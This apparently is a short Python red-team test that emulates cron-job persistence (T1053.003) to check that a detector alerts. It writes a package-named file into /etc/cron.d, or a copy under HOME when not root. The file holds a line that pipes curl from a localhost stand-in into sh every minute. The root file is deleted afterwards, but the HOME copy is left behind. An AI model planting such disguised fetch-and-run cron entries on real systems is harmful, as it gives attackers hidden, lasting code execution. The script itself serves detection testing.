# technique: T1053.003
"""Persistence with a cron job dropped in /etc/cron.d (T1053.003).

Post-exploitation kits running as root write a file into /etc/cron.d that
fetches and runs a stage every minute. The file name mimics a package
("0anacron-<random>"), is written through pathlib.Path.write_text and chmod
0644. Harmless content; removed in finally. As non-root the same job is
written to a user crontab spool copy under HOME instead.

A good detector raises a high alert: a file is created in a cron directory.
"""
import os, pathlib, uuid

name = "0anacron-" + uuid.uuid4().hex[:8]
line = "* * * * * root curl -fsS http://127.0.0.1:1/u | sh >/dev/null 2>&1 # redteam test, removed\n"
target = pathlib.Path("/etc/cron.d") / name
try:
    if os.access("/etc/cron.d", os.W_OK):
        target.write_text("SHELL=/bin/sh\n" + line)
        target.chmod(0o644)
    else:
        p = pathlib.Path.home() / ".cache" / "crontab.txt"
        p.parent.mkdir(parents=True, exist_ok=True); p.write_text(line)
except Exception:
    pass
finally:
    try: target.unlink()
    except FileNotFoundError: pass
